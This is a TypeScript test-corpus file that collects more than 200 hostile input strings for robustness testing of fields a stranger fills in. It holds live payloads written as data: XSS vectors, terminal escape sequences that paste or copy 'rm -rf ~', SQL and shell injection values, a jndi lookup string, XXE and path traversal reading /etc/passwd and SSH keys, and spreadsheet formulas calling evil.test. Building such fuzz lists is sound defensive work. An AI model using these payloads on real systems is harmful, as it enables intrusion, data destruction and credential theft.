/**
 * Texts that have broken what shows them: terminals, pages, logs, spreadsheets, file systems. To be
 * put into every field that a stranger fills in.
 */
import { fromText, type Octets, toText } from "../grammar/octets.ts";

/** One hostile text. */
export interface HostileString {
  /** What it is, and which of its kind: `terminal 3`. */
  readonly name: string;
  /** As it goes over the wire: each character is one octet. Not always UTF-8. */
  readonly octets: Octets;
  /** As whoever reads UTF-8 reads it; what is broken is U+FFFD. */
  readonly text: string;
}

const ESC = "\u001b";
const ST = `${ESC}\\`;
const many = (text: string, times: number): string => text.repeat(times);

const CONTROL = [
  ..."\u0000\u0001\u0004\u0005\u0007\b\t\v\f\u000e\u000f\u0013\u001a\u001b\u001c\u007f",
  ..."\u0080\u0085\u008d\u0090\u009b\u009d\u009f\u2028\u2029",
  "before\u0000after",
  "one\rtwo",
  "secret\b\b\b\b\b\bpublic",
  many("\u0007", 200),
];

const TERMINAL = [
  ...[`${ESC}[2J${ESC}[H`, `${ESC}c`, `${ESC}[31;5mred`, `${ESC}[8mhidden${ESC}[0m`],
  ...[`${ESC}[1000A`, `${ESC}[?1049h`, `${ESC}[?25l`, `${ESC}[?1000h`, `${ESC}[?2004h`],
  ...[`${ESC}[6n`, `${ESC}[c`, `${ESC}[21t`, `${ESC}P$q"p${ST}`, `${ESC}[201~rm -rf ~\n`],
  ...[`${ESC}]0;owned\u0007`, `${ESC}]2;owned${ST}`, `${ESC}]8;;javascript:alert(1)${ST}x`],
  ...[
    `${ESC}]52;c;cm0gLXJmIH4=\u0007`,
    `${ESC}]1337;File=inline=1:AAAA\u0007`,
    `${ESC}]4;0;?${ST}`,
  ],
  ...[`${ESC}_Ga=T,f=100;AAAA${ST}`, `${ESC}^private${ST}`, `${ESC}Xstart of string${ST}`],
  ...[`${ESC}Pq#0;2;0;0;0~~${ST}`, `${ESC}Ptmux;${ESC}${ESC}[2J${ST}`, `${ESC}(0qqqq`, `${ESC}#8`],
  ...[
    "\u009b31mred",
    "\u009d0;owned\u009c",
    "\u0090q\u009c",
    `${ESC}[2;1r`,
    `${ESC}[${many("9", 99)}m`,
  ],
  ...["50%\r100% done", "\u001b]", "\u001b["],
];

const DIRECTION = [
  ..."\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
  "photo\u202egpj.exe",
  "\u202eann\u202c",
  "user\u2067 \u2066// not a comment\u2069\u2069",
  many("\u202e", 200),
  many("\u2067", 130),
];

const UNSEEN = [
  ..."\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u3164\uffa0\u034f\u2063\u115f",
  "an\u200bn",
  many("\u200b", 2000),
  `a${many("\ufe0f", 500)}`,
  "\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}",
];

const COMBINING = [
  `Z${many("\u0351\u0321\u0489", 150)}`,
  `a${many("\u0300", 4000)}`,
  many("e\u0301\u0327\u20dd\u20e3", 100),
  many("\u0e47", 300),
  many("\u0e49\u0e4a\u0e4b", 80),
  many("\u0915\u094d", 200),
  many("\ufdfd", 300),
];

/** Octets that are no text. */
const BROKEN: readonly Octets[] = [
  ...["\xed\xa0\x80", "\xed\xbf\xbf", "\xed\xa0\xbd\xed\xb8\x80", "\xff\xfe", "\xfe\xff\0h\0i"],
  ...["\xc0\x80", "\xc0\xaf", "\xe0\x80\xaf", "\xf0\x80\x80\xaf", "\xc1\xbcscript\xc1\xbe"],
  ...["\x80", "\xbf\xbf\xbf", "\xc3", "\xe2\x82", "\xf0\x9f\x98", "caf\xe9", "\xf4\x90\x80\x80"],
  ...["\xf8\x88\x80\x80\x80", "\xc3<script>alert(1)</script>", '\xe2\x82"onload="alert(1)'],
];

const ODD = ["\ufffe", "\uffff", "\u{10ffff}", "\ue000", "\u{1fffe}", "\ufffd"];

const MARKUP = [
  ...["<script>alert(1)</script>", "<ScRiPt src=//evil.test/x></sCrIpT>", "<script", "<!--", "]]>"],
  ...["<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//"],
  ...["<body onload=alert(1)>", "<details open ontoggle=alert(1)>x", "<marquee onstart=alert(1)>"],
  ...["<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>"],
  ...["<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>"],
  ...[
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.test/x.swf>",
    "<base href=//evil.test/>",
  ],
  ...[
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<form action=//evil.test/><button>",
  ],
  ...["<a href=javascript:alert(1)>click</a>", "<b>bold</b>", "<plaintext>", "<xmp>", "<template>"],
  ...[
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</p></div></body>",
  ],
  ...[
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
  ],
  ...[
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;&nbsp;&#0;",
    "<?xml version='1.0'?><!DOCTYPE x>",
  ],
  ...["<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"],
  ...["<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"],
  "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
  "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
];

const STYLE = [
  "<style>*{display:none}</style>",
  "<link rel=stylesheet href=//evil.test/x.css>",
  "</style><script>alert(1)</script>",
  "}*{display:none!important}",
  "<p style='position:fixed;inset:0;background:red'>",
  "color:red;background:url(//evil.test/x)",
  "width:expression(alert(1))",
];

const ADDRESS = [
  ...[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
  ],
  ...["javascript://house.example/%0aalert(1)", "data:text/html,<script>alert(1)</script>"],
  ...["data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "file:///etc/passwd"],
  ...["blob:https://house.example/x", "view-source:https://house.example/", "about:blank#x"],
  ...["https://house.example@evil.test/", "https://house.example.evil.test/", "//evil.test/x"],
  ...["https://аррӏе.com/", "https://xn--80ak6aa92e.com/", "https://evil.test/\u202egpj.exe"],
  ...["\\\\evil.test\\share", "https://house.example\\@evil.test/", "https://[::ffff:127.0.0.1]/"],
  ...[
    "tel:*21*0900123456%23",
    "sip:00990@house.example",
    "intent://x#Intent;end",
    "HTTP://EVIL.TEST",
  ],
];

const QUOTES = [
  ...['"', "\\", '\\"', "'", "`", '""', "\\\\\\", "<>", '"Ann" <sip:evil@evil.test>;tag=1'],
  ...[";tag=1;lr", ",<sip:evil@evil.test>", "sip:a@b?Subject=x&Route=y", "%00", "%0d%0aX: y", "@"],
  ...["'; DROP TABLE message; --", '" OR 1=1 --', '" NEAR(a b', "a* OR b:c ^", "%_", "{}", "[]"],
];

const LINES = [
  "\r\n",
  "x\r\nFrom: <sip:evil@evil.test>",
  "x\r\n\r\n<script>alert(1)</script>",
  "x\nanna writes: I am not Anna",
  "x\r\n folded",
  'x\n{"level":50,"msg":"not from the log"}',
  "x\r\nMessage-ID: other\r\nimdn.Disposition-Notification: display",
  "x\r\nm=audio 9 RTP/AVP 0",
  "SIP/2.0 200 OK\r\n\r\n",
  many("\n", 3000),
  `${many("line\n", 1000)}`,
];

const LONG = [
  many("W", 10_000),
  many("\ufdfa", 2000),
  many(" ", 8000),
  many("\t", 1000),
  many("word ", 2400),
  many("i", 255),
  `https://${many("a", 2000)}.test/`,
  many("字", 3000),
];

const TEMPLATE = [
  ...[
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "$" + "{7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
  ],
  ...["%s%s%n%x", "%c", "{0}", "$&", "$1", "$`", "$(id)", "`id`", "; id", "| id", "&& id", "[[x]]"],
  ...["__proto__", "constructor", "toString", "hasOwnProperty", "undefined", "null", "NaN", "true"],
  ...[
    "[object Object]",
    "-0",
    "1e999",
    "0x7f",
    "\\u0000",
    "\\x1b[2J",
    "\\n",
    "${" + "jndi:ldap://x}",
  ],
  ...[":smile:", "**bold** _x_ [a](javascript:alert(1))", "![x](//evil.test/x.png)", "# heading"],
];

const FILE = [
  ...[
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\con",
    "CON",
    "nul.txt",
  ],
  ...[".", "..", "...", ".htaccess", "-rf", "~/.ssh/id_rsa", "a/b/c", "%2e%2e%2fx", "..%c0%afx"],
  ...["photo.jpg.exe", "photo.jpg\u0000.exe", "x.txt:stream", "trailing. ", "desktop.ini"],
  ...[`${many("n", 300)}.jpg`, "report.pdf\u00a0\u00a0\u00a0\u00a0.scr", 'x"; filename="y.exe'],
  ...["x.html", "x.svg", "x\r\nContent-Type: text/html"],
];

const FORMULA = [
  ...["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "=cmd|' /C calc'!A0"],
  ...['=HYPERLINK("//evil.test/","x")', '=IMPORTXML("//evil.test/","//a")', "'=1+1"],
];

const EMOJI = [
  many("👩‍👩‍👧‍👦", 200),
  many("😀", 3000),
  many("🇩🇪", 500),
  many("👍🏿", 300),
  `👩${many("\u200d👩", 500)}`,
  many("1\ufe0f\u20e3", 200),
  `🏴${many("\u{e0067}", 300)}\u{e007f}`,
  many("\u200d", 500),
];

const LOOKALIKE = ["Аnnа", "ａｎｎａ", "𝐚𝐧𝐧𝐚", "аdmin", "Ⓐⓝⓝⓐ", "ɑnnɑ", "anna\u0307", "Anna\u2024"];

const KINDS: Readonly<Record<string, readonly string[]>> = {
  ...{ control: CONTROL, terminal: TERMINAL, direction: DIRECTION, unseen: UNSEEN },
  ...{ combining: COMBINING, odd: ODD, markup: MARKUP, style: STYLE, address: ADDRESS },
  ...{ quotes: QUOTES, lines: LINES, long: LONG, template: TEMPLATE, file: FILE },
  ...{ formula: FORMULA, emoji: EMOJI, lookalike: LOOKALIKE },
};

/**
 * More than 200 of them: control characters, sequences for terminals, directions, what nobody sees,
 * broken UTF-8, markup, addresses, line ends, long ones, templates, file names, formulas, and more.
 */
export const HOSTILE_STRINGS: readonly HostileString[] = [
  ...Object.entries(KINDS).flatMap(([kind, texts]) => named(kind, texts.map(fromText))),
  ...named("broken", BROKEN),
];

function named(kind: string, all: readonly Octets[]): readonly HostileString[] {
  return all.map((octets, i) => ({ name: `${kind} ${i + 1}`, octets, text: toText(octets) }));
}
